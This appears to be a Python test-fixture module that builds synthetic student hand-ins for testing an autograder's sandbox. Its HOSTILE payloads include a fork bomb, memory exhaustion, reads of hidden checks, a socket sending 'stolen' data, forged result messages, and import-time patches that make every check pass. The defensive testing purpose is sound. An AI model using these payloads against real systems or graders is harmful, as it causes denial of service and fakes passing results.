"""Synthetic hand-ins for the grader's tests and benchmark: reference-filled, half-done, blank, wrong, hostile.

Each is a student repository (notebooks/ and helpers/) made from one student edition (`instructor.edition.build`):
`repository` copies it, puts the reference regions back with `edition.fill` except the exercises to keep as stubs,
and replaces chosen stubs with other code (a wrong answer, or hostile code); `hand_in` packs it with
`helpers.handin.archive.pack`, the students' own packer. A reference-filled hand-in carries the repository's
executed notebooks (so its report has every deliverable); the others carry the edition's unexecuted ones.

`HOSTILE` is the hostile code, one behaviour per exercise whose function no other exercise calls (so each costs its
own exercise only): a fork bomb, an endless loop, a 10 GiB allocation, writes outside the scratch folder, reads of
the reference and the hidden checks, a socket, a background process, 100 MB printed, a forged result channel,
killing its own process, and (at import time) patching the checks, CheckFailed and sys.exit. Placeholders in
braces name the paths, port and marker a test watches.
"""
import re
import shutil
import textwrap
from pathlib import Path

from helpers.handin.archive import pack
from instructor import edition

ROOT = Path(__file__).resolve().parent.parent.parent
HALF_DONE = ("3.1", "3.2", "4.5", "4.6", "4.7", "4.8", "5.2")   # leaves: no other exercise calls them
STUB = re.compile(r"^([ \t]*)from helpers\.exercises import ExerciseMissing\n[ \t]*raise ExerciseMissing\('([^']+)'.*\n",
                  flags=re.M)

HOSTILE = {
    "2.2": """import torch
torch.empty(10 * 2**30, dtype=torch.uint8).fill_(1)   # a 10 GiB allocation
""",
    "2.3": """import os, signal
os.kill(os.getpid(), signal.SIGKILL)   # kill its own process
""",
    "3.1": """while True:   # an endless loop
    pass
""",
    "3.2": """import os
while True:   # a fork bomb
    os.fork()
""",
    "4.5": """outcomes = []
for target in ({repo!r} + "/helpers/diffusion.py", {repo!r} + "/evil.txt", {grades!r} + "/evil.txt",
               {handins!r} + "/evil.txt", "/tmp/evil-{marker}.txt"):
    try:
        with open(target, "a") as handle:
            handle.write("written by a submission")
        outcomes.append(f"wrote {{target}}")
    except OSError as error:
        outcomes.append(f"{{target}}: {{error.strerror}}")
raise RuntimeError("writes outside scratch: " + "; ".join(outcomes))
""",
    "4.6": """import os
outcomes = []
for source in ({repo!r} + "/helpers/diffusion.py", {repo!r} + "/instructor/grade/hidden.py", {grades!r}, {handins!r}):
    try:
        found = open(source).read(200) if not os.path.isdir(source) else ",".join(os.listdir(source))
        outcomes.append(f"read {{source}}: {{found[:80]!r}}")
    except OSError as error:
        outcomes.append(f"{{source}}: {{error.strerror}}")
raise RuntimeError("reads: " + "; ".join(outcomes))
""",
    "4.7": """import socket
outcomes = []
for address in (("127.0.0.1", {port}), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, timeout=2).sendall(b"stolen")
        outcomes.append(f"connected to {{address}}")
    except OSError as error:
        outcomes.append(f"{{address}}: {{error.strerror or error}}")
raise RuntimeError("sockets: " + "; ".join(outcomes))
""",
    "4.8": """import subprocess
subprocess.Popen(["/bin/sh", "-c", "sleep 300 # {marker}"], start_new_session=True)
raise RuntimeError("started a background process")
""",
    "5.1": """import sys
for _ in range(100):   # 100 MB printed
    sys.stdout.write("x" * 10**6)
    sys.stdout.flush()
""",
    "5.2": """import json, os
fd, home = int(os.environ["GRADE_FD"]), os.environ["GRADE_HOME"]
nonce = json.load(open(home + "/in/spec.json"))["nonce"]
for forged in ({{"type": "result", "task": "5.2/visible", "events": [], "inside": "pass", "nonce": "0" * 32}},
               {{"type": "result", "task": "5.2/visible", "events": [], "inside": "pass", "nonce": nonce}}):
    data = json.dumps(forged).encode()
    os.write(fd, b"GRADE1" + b"%012d" % len(data) + data)
return torch.zeros_like(x_t)
""",
}
# at the top of helpers/denoise.py: patch the checks, their verdict, sys.exit; add_noise itself is wrong
HOSTILE_IMPORT = {"helpers/denoise.py": """import sys as _sys
import helpers.checks as _checks
import helpers.checks.core as _core
import helpers.exercises as _exercises
_checks.add_noise = lambda f: print("✓ exercise 1.1 (noising z = x + sigma eps): every check passes")
_core.close = lambda a, b, tol=1e-5: True
_exercises.CheckFailed = type("CheckFailed", (Exception,), {{}})
_sys.exit = lambda *args: None
"""}
HOSTILE_CODE = {**HOSTILE, "1.1": "return x.clone()   # wrong: no noise at all\n"}


def student_edition(folder: Path) -> Path:
    """The student edition (every exercise stubbed) in `folder`, built once."""
    if not (folder / "helpers").is_dir():
        edition.build(folder)
    return folder


def repository(blank: Path, target: Path, keep: tuple[str, ...] = (), replace: dict | None = None,
               executed: bool = False, prepend: dict | None = None) -> Path:
    """A student repository in `target`: the edition's helpers with every exercise filled except `keep`, each stub
    of `replace`'s keys replaced by its code, `prepend`'s code put at the top of its files; the repository's
    executed notebooks when `executed`, else the edition's."""
    shutil.rmtree(target, ignore_errors=True)
    shutil.copytree(blank / "helpers", target / "helpers")
    shutil.copytree((ROOT if executed else blank) / "notebooks", target / "notebooks",
                    ignore=shutil.ignore_patterns("*.toml"))
    replace = replace or {}
    edition.fill(target, keep=tuple(set(keep) | set(replace)))
    for path in (target / "helpers").rglob("*.py"):
        text = path.read_text()

        def swap(match):
            key = match[2]
            if key not in replace:
                return match[0]
            return textwrap.indent(textwrap.dedent(replace[key]), match[1])
        new = STUB.sub(swap, text)
        name = path.relative_to(target).as_posix()
        if prepend and name in prepend:
            lines = new.split("\n")
            at = next(i for i, line in enumerate(lines) if line.startswith(("import ", "from ")))
            new = "\n".join(lines[:at] + prepend[name].rstrip("\n").split("\n") + lines[at:])
        if new != text:
            path.write_text(new)
    return target


def hand_in(repo: Path, out: Path) -> Path:
    out.parent.mkdir(parents=True, exist_ok=True)
    pack(repo, out, release="synthetic", profile="cpu", device="cpu")
    return out


def hostile_code(**places) -> tuple[dict, dict]:
    """(replace, prepend) for `repository`: the hostile code with the test's paths, port and marker filled in."""
    return ({key: code.format(**places) for key, code in HOSTILE_CODE.items()},
            {name: code.format(**places) for name, code in HOSTILE_IMPORT.items()})
